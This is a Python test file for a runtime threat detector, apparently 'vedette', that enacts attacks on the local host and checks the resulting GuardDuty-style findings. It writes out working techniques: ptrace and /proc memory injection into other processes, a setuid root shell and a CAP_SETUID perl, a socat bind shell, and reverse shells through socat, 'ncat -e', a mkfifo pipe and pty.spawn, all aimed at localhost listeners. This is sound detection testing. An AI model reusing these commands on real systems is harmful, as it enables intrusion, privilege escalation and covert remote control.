"""What `vedette run` says of reaching into other processes, of rights gained, and of shells that others command."""

from __future__ import annotations

import contextlib
import os
import re
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from typing import NamedTuple

import botocore.session
import pytest

from agent import simulate
from agent.pipeline import HASH_WAIT_S
from tests.containers import running_container
from tests.system import deeds
from tests.system.running import WAIT_S
from tests.system.running import Found
from tests.system.running import Run
from tests.system.running import wait_for
from tests.unit.collector.test_guardduty import wrong

PROC = "DefenseEvasion:Runtime/ProcessInjection.Proc"
PTRACE = "DefenseEvasion:Runtime/ProcessInjection.Ptrace"
WRITE = "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite"
ANTI_DEBUGGING = "DefenseEvasion:Runtime/PtraceAntiDebugging"
ELEVATION = "PrivilegeEscalation:Runtime/ElevationToRoot"
SHELL = "Execution:Runtime/SuspiciousShellCreated"
REVERSE_SHELL = "Execution:Runtime/ReverseShell"
OURS = (REVERSE_SHELL, ELEVATION, SHELL, PROC, PTRACE, WRITE, ANTI_DEBUGGING)

SOCAT = os.path.realpath(shutil.which("socat") or "socat")
NCAT = os.path.realpath(shutil.which("ncat") or "ncat")
SLEEP = os.path.realpath("/bin/sleep")


class Done(NamedTuple):
    """What was done, and what the finding must therefore say."""

    pid: int
    """Of the process that the finding names."""
    path: str | None = None
    """Of its program."""
    target: tuple[int, str] | None = None
    """Pid and program of the process that it was done to."""
    result: int | None = None
    """Of the system call."""


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
    """`vedette run --json`, ready; it ends cleanly."""
    running = Run(tmp_path_factory.mktemp("injection") / "state")
    running.ready()
    yield running
    assert 0 == running.stop(), running.said


def copied(program: str | Path, directory: Path, name: str) -> Path:
    """Return a copy of a program; one in /tmp is odd company."""
    copy = directory / name
    shutil.copy(program, copy)
    copy.chmod(0o755)
    return copy


def simulated(type_: str) -> Callable[[Path], Done]:
    """Return the deed of `vedette simulate`."""

    def do(_: Path) -> Done:
        [trigger] = [one for one in simulate.load() if one.finding == type_]
        deed = trigger.run()
        return Done(deed.pid, deed.path)

    return do


LIBC = """
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = (ctypes.c_ulong, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p)
libc.ptrace.restype = ctypes.c_long
def ptrace(request, number, address=0, data=0): return libc.ptrace(request, number, address, data)
"""


def python(code: str, *arguments: str, **options: Any) -> int:
    """Run code to its end; return the pid that it had."""
    return deeds.start(sys.executable, "-c", LIBC + code, *arguments, **options)


def at_another(code: str, result: int) -> Callable[[Path], Done]:
    """Return the deed of running code against a process that is asleep and no child of it."""

    def do(_: Path) -> Done:
        with subprocess.Popen([SLEEP, "60"]) as asleep:
            try:
                pid = python(f"target = int(sys.argv[1])\n{code}", str(asleep.pid))
                time.sleep(2 * HASH_WAIT_S)  # the target is known as long as it is there
            finally:
                asleep.kill()
        return Done(pid, deeds.OUR_PYTHON, (asleep.pid, SLEEP), result)

    return do


PIECE = """
class Piece(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]
local = ctypes.create_string_buffer(8)
here, there = Piece(ctypes.addressof(local), 8), Piece(1, 8)
libc.process_vm_writev(target, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
"""
AS_NOBODY = "os.setresuid(65534, 65534, 65534)\n"
OF_CHILD = """
child = os.fork()
if child == 0:
    ptrace(0, 0)
    os.kill(os.getpid(), 19)
    os._exit(0)
os.waitpid(child, os.WUNTRACED)
local = ctypes.create_string_buffer(16)
word = libc.ptrace(2, child, ctypes.addressof(local), 0)
ptrace(4, child, ctypes.addressof(local), word)
ptrace(17, child)
os.kill(child, 9)
os.waitpid(child, 0)
"""


def memory_opened(_: Path) -> Done:
    """The memory of a process that is asleep, opened by one that is no relative."""
    code = "os.open(f'/proc/{target}/task/{target}/mem', os.O_RDWR)"
    return at_another(code, 0)(_)._replace(result=None)


def memory_opened_in_a_container(_: Path) -> Done:
    """There the number in the path is not that of the host."""
    with running_container() as container:
        done = deeds.succeeded(container.exec(["/bin/sh", "-c", "sleep 60 & exec 3<>/proc/$!/mem; kill $!"]))
        time.sleep(deeds.HASHED_S)
    return Done(done.pid, deeds.SH)


def into_a_child(_: Path) -> Done:
    """A program that puts code into a child that asked to be traced: hollowing."""
    return Done(python(OF_CHILD), deeds.OUR_PYTHON, result=0)


def asks_after_daemonizing(directory: Path) -> Done:
    """TRACEME in a child that has run no program of its own: as malware that went to the background first."""
    shell = copied(sys.executable, directory, "daemon")
    home = f"{sys.base_prefix}:{sys.base_exec_prefix}"
    code = "child = os.fork()\nif child == 0:\n    ptrace(0, 0)\n    os._exit(0)\nos.waitpid(child, 0)\nprint(child)"
    done = subprocess.run(
        [shell, "-S", "-c", LIBC + code],
        env={**os.environ, "PYTHONHOME": home},
        capture_output=True,
        text=True,
        check=True,
    )
    return Done(int(done.stdout), str(shell), result=0)


NOBODY = {"user": 65534, "group": 65534, "extra_groups": []}


def a_shell_with_the_bit(_: Path) -> Done:
    """What an intruder leaves behind: a shell of root's under another name."""
    with open_to_all() as place:
        shell = copied(deeds.BASH, place, "cache")
        shell.chmod(0o4755)
        return Done(deeds.start(shell, "-p", "-c", '[ "$EUID" = 0 ]', **NOBODY), str(shell))


CAP_SETUID = (0x02000001, 1 << 7, 0, 0, 0)  # VFS_CAP_REVISION_2, effective (include/uapi/linux/capability.h)


def an_interpreter_with_a_capability(_: Path) -> Done:
    """Perl that may take any id."""
    with open_to_all() as place:
        perl = copied(os.path.realpath(shutil.which("perl") or "perl"), place, "perl")
        os.setxattr(perl, "security.capability", struct.pack("<5I", *CAP_SETUID))
        return Done(deeds.start(perl, "-e", "$< = 0; $> = 0; exit($>)", **NOBODY), str(perl))


@contextlib.contextmanager
def open_to_all() -> Iterator[Path]:
    """Give a directory that every user may enter, as those above it are not."""
    with tempfile.TemporaryDirectory(prefix="vedette-test-", ignore_cleanup_errors=True) as path:
        Path(path).chmod(0o755)
        yield Path(path)
        time.sleep(deeds.HASHED_S)


SERVE_A_TERMINAL = """
import os, pty, socket, sys
server = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(server.getsockname())
accepted, _ = server.accept()
child, terminal = pty.fork()
if child == 0:
    os.execv(sys.argv[1], ["x"])
print(child, flush=True)
os.write(terminal, b"exit\\n")
os.waitpid(child, 0)
"""


def a_terminal_for_a_client(directory: Path) -> Done:
    """A web server that was made to open a terminal: the shell is a copy under another name."""
    shell = copied(deeds.BASH, directory, "worker")
    done = subprocess.run(
        [sys.executable, "-c", SERVE_A_TERMINAL, shell], capture_output=True, text=True, check=True, timeout=WAIT_S
    )
    return Done(int(done.stdout), str(shell))


def an_accepted_connection(_: Path) -> Done:
    """A shell on what was accepted, as of inetd; no terminal, and not told to be interactive."""
    [pid] = deeds.serve_an_accepted_connection()
    return Done(pid, deeds.SH)


def a_shell_by_socat(_: Path) -> Done:
    """A bind shell of a few words."""
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    listening = f"TCP-LISTEN:{port},bind=127.0.0.1"
    with deeds.beside("socat", listening, "EXEC:/bin/sh -i,pty,stderr,setsid", stderr=subprocess.DEVNULL) as server:
        client = connected_to(port)
        with client, client.makefile("rb") as said:
            client.sendall(b"echo pid=$$=\n")
            pid = next(int(found[1]) for line in said if (found := PID.search(line)))
            client.sendall(b"exit\n")
        server.kill()
    return Done(pid, deeds.SH)


def connected_to(port: int) -> socket.socket:
    """Return a connection to a server of this host, as soon as it listens."""
    deadline_s = time.monotonic() + WAIT_S
    while True:
        try:
            return socket.create_connection(("127.0.0.1", port), WAIT_S)
        except ConnectionRefusedError:
            assert time.monotonic() < deadline_s
            time.sleep(0.05)


PID = re.compile(rb"pid=(\d+)=")
"""What a shell answers; a terminal sends the question back, too, and colours."""


class Listener:
    """Whoever waits for the reverse shells: says one line to each that calls, and hears its answer."""

    def __init__(self, server: socket.socket) -> None:
        self.server = server
        self.port = server.getsockname()[1]

    def shell(self, context: ssl.SSLContext | None = None) -> int:
        """Ask the shell that calls for its pid, and send it away."""
        self.server.settimeout(WAIT_S)
        called, _ = self.server.accept()
        called.settimeout(WAIT_S)
        talk = called if context is None else context.wrap_socket(called, server_side=True)
        with talk, talk.makefile("rb") as said:
            talk.sendall(b"echo pid=$$=\n")
            pid = next(int(found[1]) for line in said if (found := PID.search(line)))
            time.sleep(deeds.HASHED_S)
            talk.sendall(b"exit\n")
        return pid


def calling(*argv: str | Path, found: str = "shell", **options: Any) -> Callable[[Path], Done]:
    """Return the deed of a program that connects home, `{port}` in its arguments, and hands on to a shell.

    The finding names the shell, or, with `found` the name of a program, who holds the connection.
    """

    def do(directory: Path) -> Done:
        shell = copied(deeds.BASH, directory, "kworker")
        with socket.create_server(("127.0.0.1", 0)) as server:
            home = Listener(server)
            words = [str(word).format(port=home.port, dir=directory, shell=shell) for word in argv]
            with deeds.beside(*words, stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL, **options) as child:
                pid = home.shell()
                child.kill()
        return Done(pid, None) if found == "shell" else Done(-1, found, (pid, str(shell)))

    return do


PTY_SPAWN = """
import os, pty, socket, sys
home = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(home.fileno(), fd)
pty.spawn([sys.argv[2], "--norc", "-i"])
"""
RING = "cd {dir}; mkfifo f; cat f | {shell} --norc -i 2>&1 | {{ sleep 0.2; exec ncat 127.0.0.1 {port} >f; }}"


FIRING: dict[str, tuple[str, Callable[[Path], Done]]] = {
    **{f"simulate {name}": (name, simulated(name)) for name in OURS},
    "the memory of another": (PROC, memory_opened),
    "memory in a container": (PROC, memory_opened_in_a_container),
    "ptrace SEIZE": (PTRACE, at_another("assert ptrace(0x4206, target) == 0", 0)),
    "ptrace refused": (PTRACE, at_another(f"{AS_NOBODY}ptrace(16, target)", -1)),
    "ptrace POKE of a child": (PTRACE, into_a_child),
    "a write that fails": (WRITE, at_another(PIECE, -14)),
    "a write that is refused": (WRITE, at_another(AS_NOBODY + PIECE, -1)),
    "a shell with the set-user-id bit": (ELEVATION, a_shell_with_the_bit),
    "an interpreter with a capability": (ELEVATION, an_interpreter_with_a_capability),
    "a terminal for a client": (SHELL, a_terminal_for_a_client),
    "a shell on an accepted connection": (SHELL, an_accepted_connection),
    "pty.spawn": (REVERSE_SHELL, calling(sys.executable, "-c", PTY_SPAWN.replace("{", "{{"), "{port}", "{shell}")),
    "TRACEME of a child": (ANTI_DEBUGGING, asks_after_daemonizing),
}


if shutil.which("socat") is not None:
    FIRING["a bind shell by socat"] = (SHELL, a_shell_by_socat)
    for name, how in (("a terminal", ",pty,stderr,setsid"), ("a socket pair", ""), ("pipes", ",pipes")):
        words = ("socat", "TCP:127.0.0.1:{port}", "EXEC:{shell} --norc -i" + how)
        FIRING[f"socat and {name}"] = (REVERSE_SHELL, calling(*words))
    FIRING["socat, connected when the shell is there"] = (
        REVERSE_SHELL,
        calling("socat", "EXEC:{shell} --norc -i,pty,setsid", "TCP:127.0.0.1:{port}", found=SOCAT),
    )
if shutil.which("ncat") is not None:
    FIRING["ncat -e"] = (REVERSE_SHELL, calling("ncat", "-e", "{shell}", "127.0.0.1", "{port}"))
    FIRING["a FIFO and ncat"] = (REVERSE_SHELL, calling("sh", "-c", RING, found=NCAT))


class Fired(NamedTuple):
    """A deed and the finding that it brought."""

    done: Done
    found: Found

    @property
    def details(self) -> dict[str, Any]:
        """Return the runtime details."""
        details: dict[str, Any] = self.found.document["service"]["runtimeDetails"]
        return details


def target_of(found: Found) -> int | None:
    """Return the pid of the process that it was done to."""
    target = found.document["service"]["runtimeDetails"]["context"].get("targetProcess", {}).get("pid")
    return None if target is None else int(target)


@pytest.fixture(scope="module", params=FIRING)
def fired(run: Run, tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> Fired:
    """A deed that was done and found."""
    type_, deed = FIRING[request.param]
    done = deed(tmp_path_factory.mktemp("deed"))
    if done.pid >= 0:
        return Fired(done, run.finding(type_, done.pid))
    assert done.target is not None
    pid, path = done.target

    def told() -> list[Found]:
        return [one for one in run.findings if one.type == type_ and pid in (target_of(one), one.process["pid"])]

    wait_for(told, run.said)
    # Of a shell and a connection that come together, whichever is second tells: then it is the shell that acts.
    return Fired(Done(pid, path) if told()[0].process["pid"] == pid else done, told()[0])


def test_a_deed_is_found(fired: Fired) -> None:
    """The finding names who did it."""
    assert fired.done.path in {None, fired.found.process["executablePath"]}


def test_a_finding_is_as_guardduty_has_it(fired: Fired) -> None:
    """Whatever reads findings of GuardDuty reads this one."""
    shape = botocore.session.get_session().get_service_model("guardduty").shape_for("Finding")
    assert [] == list(wrong(fired.found.document, shape))


def test_the_target_is_named(fired: Fired) -> None:
    """To whom it was done, as completely as who did it; and what came of the call."""
    target = fired.details["context"].get("targetProcess", {})
    value = fired.found.document["service"]["additionalInfo"]["value"]

    if fired.done.target is not None:
        assert fired.done.target == (target["pid"], target["executablePath"])
        assert {"name", "startTime", "uuid", "userId", "euid", "namespacePid"} <= target.keys()
    if fired.done.result is not None:
        assert f'"result": {fired.done.result}' in value
